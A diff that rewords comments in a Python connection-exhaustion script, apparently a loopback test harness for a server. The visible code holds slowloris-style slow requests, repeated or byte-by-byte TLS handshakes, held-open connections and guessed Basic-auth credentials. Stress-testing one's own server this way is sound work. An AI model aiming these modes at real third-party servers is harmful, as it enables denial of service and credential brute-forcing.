@@ -1,7 +1,7 @@
-"""Holds as many connections to a server as it lets one client have: `attacker.py HOST PORT SOURCE COUNT HOW`.
+"""Keeps as many connections to a server open as one client may have: `attacker.py HOST PORT SOURCE COUNT HOW`.
 
-SOURCE is an address of this machine, or a network of them: then each connection is from another one. A closed
-connection is opened again. Says "attacking" once all have been open. Runs until it is killed.
+SOURCE is an address of this machine, or a network from which each connection takes another address. Closed connections
+are reopened. Prints "attacking" once all have been open. Runs until it is killed.
 """
 
 from __future__ import annotations
@@ -24,7 +24,7 @@ _Network: TypeAlias = "ipaddress.IPv4Network | ipaddress.IPv6Network"
 
 _GUESSES = itertools.count()
 _GET = b"GET /metrics HTTP/1.1\r\n\r\n"
-# What is sent first, and then again and again.
+# Bytes that are sent first, and bytes that are repeated.
 _WAYS = {
     "silent": (b"", b""),
     "dribble": (b"GET / HTTP/1.1\r\nX: ", b"a"),
@@ -43,7 +43,7 @@ _WAYS = {
 
 @cache
 def _hello() -> bytes:
-    """Return how a TLS client begins."""
+    """The beginning of a TLS client's handshake."""
     sent = ssl.MemoryBIO()
     with contextlib.suppress(ssl.SSLWantReadError):
         ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(ssl.MemoryBIO(), sent, server_hostname="xen1").do_handshake()
@@ -57,7 +57,7 @@ def _sent(how: str) -> Iterator[bytes]:
             yield b"GET /metrics HTTP/1.1\r\nAuthorization: Basic %b\r\n\r\n" % guess
     elif how == "handshakes, byte by byte":
         yield from (bytes([byte]) for byte in itertools.cycle(_hello()))
-    elif how == "handshakes, one after the other":  # the server's part costs it most; the client's is never finished
+    elif how == "handshakes, one after the other":  # costs the server its most expensive step; never finished
         yield _hello()
     else:
         first, then = _WAYS[how]
@@ -85,7 +85,7 @@ async def _connection(server: tuple[str, int], network: _Network, how: str, open
                         break
                 elif how in {"dribble", "handshakes, byte by byte"}:
                     await asyncio.sleep(0.5)
-            if how == "requests, then gone":  # by a reset, as the kernel's memory of connections would fill up
+            if how == "requests, then gone":  # reset, so that connections don't fill the kernel's tables
                 linger = struct.pack("ii", 1, 0)
                 writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
             if how == "silent":
@@ -97,7 +97,7 @@ async def _connection(server: tuple[str, int], network: _Network, how: str, open
 
 
 async def attack(server: tuple[str, int], network: _Network, count: int, how: str) -> None:
-    """Attack a server on loopback from other addresses there."""
+    """Attack a server on loopback from other loopback addresses."""
     events = [asyncio.Event() for _ in range(count)]
     attacks = [asyncio.create_task(_connection(server, network, how, opened)) for opened in events]
     for opened in events:
